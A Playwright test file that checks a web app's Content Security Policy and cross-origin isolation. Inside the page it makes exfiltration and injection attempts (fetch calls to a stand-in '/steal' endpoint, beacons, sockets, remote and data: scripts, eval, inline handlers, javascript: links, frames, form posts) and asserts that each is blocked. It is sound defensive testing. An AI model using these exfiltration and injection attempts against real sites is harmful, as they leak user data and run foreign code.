/** The policy as the browser enforces it: each attempt is made in the real window, and each is seen to be blocked. */
import { cpSync, mkdtempSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { type BrowserContext, expect, type Page, test } from "@playwright/test";
import { ROOT, type Served, serveProject, stopServing } from "./harness/service.ts";

let folder: string;
let served: Served;
let context: BrowserContext;
let page: Page;
/** Another site, on this machine: it answers everything to everyone, and remembers what it was asked. */
let other: Server;
let otherOrigin: string;
const asked: string[] = [];

test.describe.configure({ mode: "serial" });

test.beforeAll(async ({ browser }) => {
  folder = mkdtempSync(path.join(tmpdir(), "isarithm-security-"));
  const project = path.join(folder, "chicago-2018.isarithm");
  cpSync(path.join(ROOT, "samples/chicago-2018.isarithm"), project, { recursive: true });
  served = await serveProject(folder, project);
  other = createServer((request, response) => {
    asked.push(`${request.method} ${request.url} ${request.headers.cookie ?? ""}`.trim());
    const type = request.url?.endsWith(".js") ? "text/javascript" : "text/html";
    response.writeHead(200, {
      "Content-Type": type,
      "Access-Control-Allow-Origin": "*",
      "Cross-Origin-Resource-Policy": "cross-origin",
    });
    response.end(request.url?.endsWith(".js") ? "globalThis.remoteRan = true;" : "<!doctype html><title>Other</title>");
  });
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
  otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
  context = await browser.newContext();
  page = await context.newPage();
  const opened = await page.goto(served.address);
  expect([opened?.status(), opened?.headers()["content-type"]]).toEqual([200, "text/html; charset=utf-8"]);
  await page.evaluate(() => {
    const violations: string[] = [];
    Reflect.set(globalThis, "violations", violations);
    document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
  });
});

test.afterAll(async () => {
  await context?.close();
  other?.closeAllConnections();
  other?.close();
  await stopServing(served);
  rmSync(folder, { recursive: true, force: true });
});

/** Does something in the page, and waits for the violation that it must be. */
async function violates(directive: string, attempt: (other: string) => void | Promise<void>): Promise<void> {
  await page.evaluate(() => {
    Reflect.get(globalThis, "violations").length = 0;
  });
  await page.evaluate(attempt, otherOrigin);
  await expect.poll(() => page.evaluate(() => Reflect.get(globalThis, "violations"))).toContain(directive);
}

test("an inline script does not run", async () => {
  await violates("script-src-elem", () => {
    const script = document.createElement("script");
    script.textContent = "globalThis.inlineRan = true;";
    document.body.append(script);
  });
  await violates("script-src-attr", () => {
    const holder = document.createElement("div");
    holder.innerHTML = '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="globalThis.inlineRan = true">';
    document.body.append(holder);
  });
  expect(await page.evaluate(() => Reflect.get(globalThis, "inlineRan"))).toBeUndefined();
});

test("text is not run as code", async () => {
  // From the page's own timer: what Playwright evaluates stands outside of the policy.
  await violates("script-src", async () => {
    for (const run of [
      () => new Function("globalThis.evalRan = true")(),
      () => Reflect.get(globalThis, "eval")("globalThis.evalRan = true"),
    ]) {
      await new Promise<void>((resolve) => {
        setTimeout(() => {
          try {
            run();
          } catch {
            // Blocked.
          }
          resolve();
        });
      });
    }
  });
  expect(await page.evaluate(() => Reflect.get(globalThis, "evalRan"))).toBeUndefined();
});

test("a script of another site is not loaded, as a script, a module, an import or a worker", async () => {
  await violates("script-src-elem", (site) => {
    const script = document.createElement("script");
    script.src = `${site}/remote.js`;
    document.body.append(script);
  });
  await violates("script-src-elem", async (site) => {
    await import(/* @vite-ignore */ `${site}/remote.js`).catch(() => undefined);
  });
  await violates("script-src-elem", () => {
    const script = document.createElement("script");
    script.src = "data:text/javascript,globalThis.remoteRan=true";
    document.body.append(script);
  });
  await violates("worker-src", (site) => {
    try {
      new Worker(`${site}/remote.js`);
    } catch {
      // Refused at once: another origin.
      new Worker("data:text/javascript,0");
    }
  });
  expect(await page.evaluate(() => Reflect.get(globalThis, "remoteRan"))).toBeUndefined();
});

test("nothing is sent to another site, by fetch, socket, beacon, picture or style", async () => {
  await violates("connect-src", async (site) => {
    await fetch(`${site}/steal?x=1`).catch(() => undefined);
  });
  await violates("connect-src", async (site) => {
    await fetch(`${site}/steal`, { method: "POST", mode: "no-cors", body: "x" }).catch(() => undefined);
  });
  await violates("connect-src", (site) => void navigator.sendBeacon(`${site}/beacon`, "x"));
  await violates("connect-src", (site) => {
    try {
      new WebSocket(site.replace("http", "ws"));
    } catch {
      // Refused at once.
    }
  });
  await violates("img-src", (site) => {
    new Image().src = `${site}/pixel.png`;
  });
  await violates("style-src-elem", (site) => {
    const link = document.createElement("link");
    link.rel = "stylesheet";
    link.href = `${site}/a.css`;
    document.head.append(link);
  });
  await violates("font-src", (site) => void new FontFace("x", `url(${site}/a.woff2)`).load().catch(() => undefined));
});

test("no frame of another site, no object, no base, no form", async () => {
  await violates("frame-src", (site) => {
    const frame = document.createElement("iframe");
    frame.src = `${site}/page`;
    document.body.append(frame);
  });
  await violates("object-src", (site) => {
    const object = document.createElement("object");
    object.data = `${site}/page`;
    document.body.append(object);
  });
  await violates("base-uri", (site) => {
    const base = document.createElement("base");
    base.href = site;
    document.head.append(base);
  });
  await violates("form-action", (site) => {
    const form = document.createElement("form");
    form.action = `${site}/form`;
    form.method = "post";
    document.body.append(form);
    form.submit();
  });
});

test("a javascript: link does nothing", async () => {
  const before = page.url();
  await violates("script-src-elem", () => {
    const link = document.createElement("a");
    link.href = "javascript:globalThis.linkRan=true";
    document.body.append(link);
    link.click();
  });
  expect([await page.evaluate(() => Reflect.get(globalThis, "linkRan")), page.url()]).toEqual([undefined, before]);
});

test("the other site was asked for nothing", () => {
  expect(asked).toEqual([]);
});

test("another site can neither frame the window, nor read from it, nor post to it, nor open its socket", async () => {
  const site = await context.newPage();
  await site.goto(`${otherOrigin}/page`);
  const service = new URL(served.address).origin;
  const outcome = await site.evaluate(async (target) => {
    const tried = async (attempt: () => Promise<Response>): Promise<string> => {
      try {
        const answer = await attempt();
        return answer.type === "opaque" ? "opaque" : String(answer.status);
      } catch {
        return "failed";
      }
    };
    const socket = await new Promise<string>((resolve) => {
      const line = new WebSocket(`${target.replace("http", "ws")}/socket`);
      line.onopen = () => resolve("open");
      line.onerror = () => resolve("failed");
    });
    const frame = document.createElement("iframe");
    frame.src = `${target}/`;
    document.body.append(frame);
    await new Promise((resolve) => {
      frame.onload = resolve;
    });
    return {
      read: await tried(() => fetch(`${target}/`, { credentials: "include" })),
      post: await tried(() => fetch(`${target}/upload?name=a.csv`, { method: "POST", credentials: "include", body: "a,b" })),
      // A page that embeds another's bytes without reading them: refused by Cross-Origin-Resource-Policy and by the service.
      blind: await tried(() => fetch(`${target}/`, { mode: "no-cors", credentials: "include" })),
      socket,
      // A frame that was refused shows the browser's own page, whose document is nobody's.
      frame: frame.contentDocument === null,
      opened: globalThis.open(`${target}/`)?.opener ?? null,
    };
  }, service);
  expect(outcome).toMatchObject({ read: "failed", post: "failed", socket: "failed", frame: true });
  expect(["failed", "opaque"]).toContain(outcome.blind);
  const frame = site.frames().find((each) => each !== site.mainFrame());
  expect(frame?.url() ?? "").not.toMatch(/^http:\/\/127\.0\.0\.1:\d+\/$/);
  await site.close();
});
